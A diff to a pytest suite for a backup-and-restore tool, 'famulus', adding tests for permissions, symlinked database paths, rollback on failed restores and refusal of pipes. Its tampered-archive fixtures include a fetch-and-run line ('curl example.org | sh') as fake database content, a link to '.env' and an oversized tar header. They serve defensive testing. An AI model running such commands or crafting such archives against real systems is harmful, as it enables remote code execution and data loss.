@@ -113,6 +113,93 @@ def test_a_backup_restores_into_a_home_that_is_empty(home, famulus, tmp_path, mo
     assert content(tmp_path / "other") == old
 
 
+def test_who_may_read_a_folder_is_restored(home, famulus, tmp_path):
+    (home / "workspace" / "deep").chmod(0o750)
+    (home / "workspace" / "deep" / "empty").chmod(0o755)
+    famulus("backup", tmp_path / "saved.tar")
+    famulus("restore", tmp_path / "saved.tar")
+    assert (home / "workspace" / "deep").stat().st_mode & 0o777 == 0o750
+    assert (home / "workspace" / "deep" / "empty").stat().st_mode & 0o777 == 0o755
+
+
+def test_a_database_whose_name_begins_as_another_file_does_not_hide_it(home, famulus, tmp_path):
+    (home / "famulus.toml").write_text('[storage]\nurl = "sqlite:///fam"\n')
+    famulus("backup", tmp_path / "saved.tar")
+    with tarfile.open(tmp_path / "saved.tar") as tar:
+        assert "home/famulus.toml" in tar.getnames()
+
+
+def test_a_database_that_is_named_by_a_detour_is_saved_once(home, famulus, tmp_path, monkeypatch):
+    (tmp_path / "link").symlink_to(home)
+    monkeypatch.setenv("FAMULUS_STORAGE__URL", f"sqlite:///{tmp_path}/link/famulus.db")
+    famulus("backup", tmp_path / "saved.tar")
+    with tarfile.open(tmp_path / "saved.tar", errors="surrogateescape") as tar:
+        assert [name for name in tar.getnames() if "database" in name or ".db" in name] == [
+            "database"
+        ]
+
+
+def test_a_database_and_a_file_of_its_name_do_not_replace_each_other(
+    home, famulus, tmp_path, monkeypatch
+):
+    (tmp_path / "data").mkdir()
+    shutil.copy(home / "famulus.db", tmp_path / "data" / "other.db")
+    monkeypatch.setenv("FAMULUS_STORAGE__URL", f"sqlite:///{tmp_path}/data/other.db")
+    famulus("backup", tmp_path / "saved.tar")
+    monkeypatch.delenv("FAMULUS_STORAGE__URL")
+    before = content(home)
+    code, _, err = famulus("restore", tmp_path / "saved.tar")
+    assert code == 1
+    assert "FAMULUS_STORAGE__URL" in err
+    assert content(home) == before
+
+
+def test_a_restore_whose_last_move_fails_undoes_those_before(home, famulus, tmp_path, monkeypatch):
+    # What it is moved aside as is longer than a name can be.
+    database = tmp_path / "data" / ("d" * 240)
+    database.parent.mkdir()
+    shutil.copy(home / "famulus.db", database)
+    monkeypatch.setenv("FAMULUS_STORAGE__URL", f"sqlite:///{database}")
+    famulus("sessions", "list")
+    famulus("backup", tmp_path / "saved.tar")
+    (home / "prompts" / "base.md").write_text("newer")
+    before, entries = content(home), sorted(home.iterdir())
+    code, _, err = famulus("restore", tmp_path / "saved.tar")
+    assert code == 1
+    assert "What was there is still there" in err
+    assert content(home) == before
+    assert sorted(home.iterdir()) == entries
+    assert famulus("sessions", "list")[0] == 0
+
+
+def test_what_a_restore_replaced_goes_back_only_where_it_was(home, famulus, tmp_path, monkeypatch):
+    famulus("backup", tmp_path / "saved.tar")
+    famulus("restore", tmp_path / "saved.tar")
+    home.rename(tmp_path / "moved")
+    home.mkdir()
+    fill(home, "another")
+    another, moved = content(home), content(tmp_path / "moved")
+    monkeypatch.setenv("FAMULUS_HOME", str(tmp_path / "moved"))
+    (kept,) = (tmp_path / "moved").glob("replaced-*")
+    code, _, err = famulus("restore", kept)
+    assert code == 1
+    assert "only be brought back there" in err
+    assert (content(home), content(tmp_path / "moved")) == (another, moved)
+
+
+def test_a_restored_database_replaces_nothing_but_a_database(home, famulus, tmp_path):
+    document = tmp_path / "document"
+    (home / "famulus.toml").write_text(f'[storage]\nurl = "sqlite:///{document}"\n')
+    shutil.copy(home / "famulus.db", document)
+    famulus("backup", tmp_path / "saved.tar")
+    document.with_name("document.lock").unlink(missing_ok=True)
+    document.write_text("mine")
+    code, _, err = famulus("restore", tmp_path / "saved.tar")
+    assert code == 1
+    assert f"{document}, which is no database" in err
+    assert document.read_text() == "mine"
+
+
 def test_links_and_pipes_are_left_out_and_named(home, famulus, tmp_path):
     (tmp_path / "secret").write_text("not ours")
     (home / "workspace" / "link").symlink_to(tmp_path / "secret")
@@ -170,6 +257,15 @@ def test_a_file_that_is_there_is_not_replaced_unless_asked_for(home, famulus, tm
     assert file.read_text() == "mine"
     assert famulus("backup", file, "--force")[0] == 0
     assert famulus("restore", file)[0] == 0
+
+
+@pytest.mark.parametrize("arguments", [("backup", "--force"), ("restore",)])
+def test_a_pipe_is_neither_written_nor_read(famulus, home, tmp_path, arguments):
+    os.mkfifo(tmp_path / "pipe")
+    code, _, err = famulus(*arguments, tmp_path / "pipe")
+    assert code == 1
+    assert f"{tmp_path}/pipe is" in err
+    assert (tmp_path / "pipe").is_fifo()
 
 
 def test_backups_in_the_home_do_not_hold_each_other(home, famulus):
@@ -276,6 +372,27 @@ def less(members, manifest):
     return [each for each in members if not each[0].name.endswith("base.md")]
 
 
+def no_database(members, manifest):
+    data = b"curl example.org | sh"
+    manifest["'database'"] = [len(data), hashlib.sha256(data).hexdigest()]
+    return [
+        (member("database", data), data) if each[0].name == "database" else each for each in members
+    ]
+
+
+def older(members, manifest):
+    header = json.loads(members[0][1]) | {"schema": 1}
+    data = json.dumps(header).encode()
+    return [(member("famulus-backup.json", data), data), *members[1:]]
+
+
+def endless(members, manifest):
+    """A header that says that 4 EB of it follow."""
+    info = member("home/x")
+    info.type, info.size = tarfile.XHDTYPE, 1 << 62
+    return [*members, (info, None)]
+
+
 def twice(members, manifest):
     return [*members, members[-1]]
 
@@ -292,6 +409,12 @@ def twice(members, manifest):
         adding("home/link", b"", type=tarfile.LNKTYPE, linkname="home/.env"),
         adding("home/pipe", b"", type=tarfile.FIFOTYPE),
         adding("home/large", b"", pax_headers={"GNU.sparse.major": "1", "GNU.sparse.minor": "0"}),
+        adding("home/.restoring/plan.json"),
+        adding("home/replaced-20260101-000000/x"),
+        adding("home/gateway.json"),
+        no_database,
+        older,
+        endless,
         newer,
         altered,
         less,
